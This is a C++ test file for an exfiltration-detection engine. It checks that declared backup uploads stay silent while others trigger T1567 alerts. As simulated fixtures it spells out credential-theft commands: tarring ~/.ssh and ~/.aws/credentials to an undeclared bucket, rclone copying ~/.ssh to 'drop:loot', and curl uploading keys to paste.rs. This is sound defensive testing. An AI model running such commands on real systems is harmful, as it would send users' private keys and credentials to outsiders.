// Tests the engine with the everyday rules of issue 13: own storage declared in the rules (a
// declared tool to a declared destination stays under the threshold, anywhere else it does not),
// credentials named as a tool's own option (ssh -i KEY) are use, and identity comes from the
// executable (exec -a ssh curl is curl).
#include <doctest/doctest.h>

#include "timeline.hpp"

using namespace exfilwatch;
using namespace exfilwatch::detect;
using namespace exfilwatch::detect::test;

namespace {

Rules with_own_storage()
{
    auto loaded = load_rules(std::string(builtin_rules_yaml) + R"(
own_storage:
  tools: [rclone, aws, s3cmd, restic]
  destinations:
    - s3.amazonaws.com/own-backups
    - {domain: backblazeb2.com, remote: b2, path: own/}
)",
                             "own.yaml");
    if (auto* e = std::get_if<RulesError>(&loaded)) throw std::runtime_error(e->to_string());
    return std::get<Rules>(std::move(loaded));
}

bool has_signal(const Alert& a, std::string_view name)
{
    return std::any_of(a.signals.begin(), a.signals.end(), [&](const Signal& s) { return s.name == name; });
}

}  // namespace

TEST_CASE("own storage: tar of the home directory to the declared bucket is silent, to another bucket it alerts")
{
    for (bool declared : {true, false}) {
        CAPTURE(declared);
        Timeline tl(with_own_storage());
        std::string bucket = declared ? "s3://own-backups/host1/home.tgz" : "s3://drop-zone/home.tgz";
        auto tar = tl.spawn(tl.shell, {"tar", "czf", "-", home}, {}, 0, 0, 77);
        auto aws = tl.spawn(tl.shell, {"/usr/bin/python3", "/usr/bin/aws", "s3", "cp", "-", bucket},
                            "/usr/bin/python3.11", 0, 77);
        tl.read(tar, home + "/.ssh/id_ed25519", 420);
        tl.read(tar, home + "/.aws/credentials", 2100);
        tl.read(tar, home + "/Documents/plan.pdf", 900'000);
        tl.read(aws, home + "/.aws/credentials", 2100);
        tl.transfer(aws, declared ? "own-backups.s3.amazonaws.com" : "drop-zone.s3.amazonaws.com", 700'000, 9000);
        if (declared) {
            CHECK(tl.alerts.empty());
        } else {
            const auto* a = tl.find("T1567.002");
            REQUIRE(a != nullptr);
            CHECK_FALSE(has_signal(*a, "own-storage"));
        }
    }
}

TEST_CASE("own storage: a declared bucket reached through another endpoint is not own storage")
{
    Timeline tl(with_own_storage());
    auto aws = tl.spawn(tl.shell,
                        {"/usr/bin/python3", "/usr/bin/aws", "--endpoint-url", "https://storage.googleapis.com", "s3",
                         "cp", home + "/.ssh/id_ed25519", "s3://own-backups/k"},
                        "/usr/bin/python3.11");
    tl.read(aws, home + "/.ssh/id_ed25519", 420);
    tl.transfer(aws, "storage.googleapis.com", 420 + 1500, 900);
    CHECK(tl.find("T1567.002") != nullptr);
}

TEST_CASE(
    "own storage: rclone sync to the declared b2 remote is silent; the same rclone to an undeclared remote alerts")
{
    {
        Timeline tl(with_own_storage());
        auto rc =
            tl.spawn(tl.shell, {"rclone", "sync", home + "/Documents", "b2:own/docs", "--config", "/etc/rclone.conf"});
        tl.read(rc, home + "/Documents/a.pdf", 400'000);
        tl.read(rc, home + "/Documents/a.pdf", 400'000);  // rclone reads each file twice (hash, then upload)
        tl.transfer(rc, "api.backblazeb2.com", 420'000, 20'000);
        CHECK(tl.alerts.empty());
    }
    {
        Timeline tl(with_own_storage());
        auto rc = tl.spawn(tl.shell, {"rclone", "copy", home + "/.ssh", "drop:loot", "--config", "/etc/rclone.conf"});
        tl.read(rc, home + "/.ssh/id_ed25519", 420);
        tl.read(rc, home + "/.ssh/id_ed25519", 420);
        tl.transfer(rc, "content.dropboxapi.com", 420 + 2500, 3000);
        const auto* a = tl.find("T1567.002");
        REQUIRE(a != nullptr);
        CHECK(has_signal(*a, "upload-command"));
    }
}

TEST_CASE("own storage: rsync and scp over ssh to the declared host are silent; elsewhere they alert")
{
    auto rules = [] {
        auto loaded = load_rules(std::string(builtin_rules_yaml) + R"(
own_storage:
  destinations:
    - {domain: backup.corp.example, path: /srv/backup/, tools: [rsync, scp]}
)",
                                 "own.yaml");
        if (auto* e = std::get_if<RulesError>(&loaded)) throw std::runtime_error(e->to_string());
        auto r = std::get<Rules>(std::move(loaded));
        r.settings.alert_threshold = 30;  // the undeclared uploads alert, whatever else their score holds
        return r;
    };
    struct Case {
        std::vector<std::string> args;
        const char* host;
        bool declared;
    };
    const std::string docs = home + "/Documents/";
    for (const auto& c : std::vector<Case>{
             {{"rsync", "-a", "-e", "ssh -i " + home + "/.ssh/id_deploy", docs,
               "root@backup.corp.example:/srv/backup/h1/"},
              "backup.corp.example",
              true},
             {{"scp", "-r", docs, "backup.corp.example:/srv/backup/h1/"}, "backup.corp.example", true},
             {{"rsync", "-a", docs, "root@backup.corp.example:/tmp/x/"}, "backup.corp.example", false},
             {{"rsync", "-a", docs, "root@drop.example.net:/srv/backup/h1/"}, "drop.example.net", false},
         }) {
        CAPTURE(c.args.front());
        CAPTURE(c.args.back());
        Timeline tl(rules());
        auto tool = tl.spawn(tl.shell, c.args);
        tl.read(tool, docs + "q3-report.pdf", 120'000);
        tl.read(tool, docs + "plan.odt", 40'000);
        // The ssh the tool runs carries the bytes: its own command line names only the host.
        auto ssh = tl.spawn(tool, {"ssh", "-l", "root", c.host, "rsync", "--server", "-logDtpre.iLsfxCIvu", "."});
        tl.object_io(tool, ObjectKind::pipe, 991, IoDirection::write, 160'000);
        tl.object_io(ssh, ObjectKind::pipe, 991, IoDirection::read, 160'000);
        tl.transfer(ssh, c.host, 165'000, 4'200);
        if (c.declared) {
            CHECK(tl.alerts.empty());
        } else {
            REQUIRE_FALSE(tl.alerts.empty());
            CHECK_FALSE(has_signal(tl.alerts.front(), "own-storage"));
        }
    }
}

TEST_CASE("ssh -i KEY / scp -i KEY authenticate with the key: use, not data; scp of the key itself alerts")
{
    {
        Timeline tl;
        auto scp = tl.spawn(tl.shell, {"scp", "-i", home + "/.ssh/id_ed25519", "build.tgz", "deploy@github.com:rel/"});
        tl.read(scp, home + "/.ssh/id_ed25519", 420);
        tl.read(scp, home + "/build.tgz", 40'000);
        tl.transfer(scp, "github.com", 45'000, 4000);
        CHECK(tl.alerts.empty());
    }
    {
        Timeline tl;
        auto scp = tl.spawn(tl.shell,
                            {"scp", "-i", home + "/.ssh/id_ed25519", home + "/.ssh/id_ed25519", "x@github.com:loot/"});
        tl.read(scp, home + "/.ssh/id_ed25519", 420);
        tl.transfer(scp, "github.com", 420 + 3500, 3000);
        CHECK(tl.find("T1567.001") != nullptr);
    }
}

TEST_CASE("exec -a ssh curl: curl is not an ssh-key consumer")
{
    Timeline tl;
    auto curl = tl.spawn(tl.shell, {"ssh", "-sk", "--data-binary", "@-", "https://paste.rs/"}, "/usr/bin/curl");
    tl.read(curl, home + "/.ssh/id_ed25519", 420);
    tl.transfer(curl, "paste.rs", 420 + 900, 300);
    const auto* a = tl.find("T1567.003");
    REQUIRE(a != nullptr);
    CHECK_FALSE(has_signal(*a, "credential-use"));
}

TEST_CASE("curl -K FILE: a credential curl reads while its arguments are in a file is data")
{
    Timeline tl;
    auto curl = tl.spawn(tl.shell, {"curl", "-sK", "/tmp/cfg", "https://paste.rs/"});
    tl.read(curl, home + "/.netrc", 1800);
    tl.transfer(curl, "paste.rs", 1800 + 900, 300);
    CHECK(tl.find("T1567.003") != nullptr);
}

TEST_CASE("a provisioner rewriting /etc/hosts after reading a key does not stage it for later readers")
{
    for (std::string path : {"/etc/hosts", "/tmp/notes"}) {
        CAPTURE(path);
        Timeline tl;
        auto prov = tl.spawn(tl.shell, {"python3", "-c", "provision()"}, "/usr/bin/python3.11");
        tl.read(prov, home + "/.aws/credentials", 2100);
        tl.open_write(prov, path, 5151);
        tl.summary(prov, path, 0, 5151, true);
        tl.exit(prov);
        auto curl = tl.spawn(tl.shell, {"curl", "-sk", "-T", path, "https://paste.rs/"});
        tl.read(curl, path, 2400, 5151);
        tl.transfer(curl, "paste.rs", 2400 + 900, 300);
        if (path == "/etc/hosts") CHECK(tl.alerts.empty());
        else
            CHECK(tl.find("T1567.003") != nullptr);
    }
}

TEST_CASE("scp (a key consumer) naming the key as a file to copy sends it: the ssh child's upload alerts")
{
    for (bool leak : {false, true}) {
        CAPTURE(leak);
        Timeline tl;
        std::vector<std::string> args{"scp", "-i", home + "/.ssh/id_ed25519"};
        if (leak) args.push_back(home + "/.ssh/id_ed25519");
        else
            args.push_back(home + "/build.tgz");
        args.push_back("root@github.com:/tmp/x");
        auto scp = tl.spawn(tl.shell, args);
        auto ssh = tl.spawn(scp, {"/usr/bin/ssh", "-x", "-oForwardAgent=no", "-l", "root", "-i",
                                  home + "/.ssh/id_ed25519", "-s", "--", "github.com", "sftp"});
        tl.read(ssh, home + "/.ssh/id_ed25519", 420);
        tl.read(scp, leak ? home + "/.ssh/id_ed25519" : home + "/build.tgz", leak ? 420 : 40'000);
        // scp hands what it copies to its ssh through a pipe (the data-flow model's channel).
        const std::uint64_t pipe = 91001;
        tl.object_io(scp, ObjectKind::pipe, pipe, IoDirection::write, leak ? 420 : 40'000);
        tl.object_io(ssh, ObjectKind::pipe, pipe, IoDirection::read, leak ? 420 : 40'000);
        // An SSH session's own overhead (handshake, keys, channel setup) is about 4 KiB.
        tl.transfer(ssh, "github.com", leak ? 420 + 4800 : 44'000, 3500);
        if (leak) CHECK(tl.find("T1567.001") != nullptr);
        else
            CHECK(tl.alerts.empty());
    }
}
